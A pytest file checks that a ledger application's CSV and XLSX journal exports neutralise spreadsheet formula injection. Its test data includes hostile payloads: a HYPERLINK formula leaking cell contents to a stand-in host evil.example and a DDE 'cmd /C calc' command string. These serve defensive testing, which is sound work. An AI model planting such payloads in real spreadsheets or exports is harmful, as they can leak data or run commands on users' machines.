"""Formula injection (DOMAIN §6.7): the journal's CSV and XLSX exports are opened in
spreadsheets, so a text a person typed (a payment's note, a correction's reason, a staff
name) that starts like a formula (``=``, ``+``, ``-``, ``@``, tab, CR) is exported as plain
text with a leading apostrophe. Money stays a number: a negative amount is not text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from classledger.projections import exports
from tests.http.support import Api

NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)"]


def _journal_with_notes(api: Api) -> None:
    client = api.client()
    for note in NOTES:
        r = api.post("/v1/payments", {"client_id": client, "amount": "10.00", "method": "cash",
                                      "branch_id": api.branch, "note": note})
        assert r.status_code == 201, r.text
    r = api.post("/v1/corrections", {"client_id": client, "branch_id": api.branch, "amount": "-5.00",
                                     "reason": "=2*3"}, role="director")
    assert r.status_code == 201, r.text


def test_a_note_starting_like_a_formula_is_text_in_the_csv(api: Api) -> None:
    _journal_with_notes(api)
    r = api.get("/v1/ledger/journal", role="accountant", format="csv")
    assert r.status_code == 200
    table = list(csv.reader(io.StringIO(r.content.decode(), newline="")))
    head, body = table[0], table[1:]
    memo, reason, amount = head.index("memo"), head.index("reason"), head.index("amount")
    memos = {row[memo] for row in body if row[memo]}
    assert memos == {"'" + n for n in [*NOTES, "=2*3"]}  # a correction's reason is its memo too
    assert {row[reason] for row in body if row[reason]} <= {"'=2*3"}
    for row in body:  # only the amount may start with "-": it is a number
        assert all(not cell.startswith(exports.FORMULA_STARTS) for i, cell in enumerate(row) if i != amount), row
    amounts = [Decimal(row[amount]) for row in body]
    assert any(a < 0 for a in amounts)
    assert sum(amounts) == 0
    assert any(row[amount].startswith("-") for row in body)  # money is not neutralised


def test_a_note_starting_like_a_formula_is_no_formula_in_the_xlsx(api: Api) -> None:
    _journal_with_notes(api)
    r = api.get("/v1/ledger/journal", role="accountant", format="xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no live formula anywhere
    head = [c.value for c in next(ws.iter_rows())]
    memo, amount = head.index("memo"), head.index("amount")
    values = list(ws.iter_rows(min_row=2, values_only=True))
    assert {v[memo] for v in values if v[memo]} == {"'" + n for n in [*NOTES, "=2*3"]}
    assert sum(Decimal(str(v[amount])) for v in values) == 0
    assert any(str(v[amount]).startswith("-") for v in values)


def test_plain_text_and_numbers_are_exported_as_they_are() -> None:
    assert exports.neutral("cash at the desk") == "cash at the desk"
    assert exports.neutral("") == ""
    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert exports.neutral(text) == "'" + text
    assert exports.neutral(None) is None
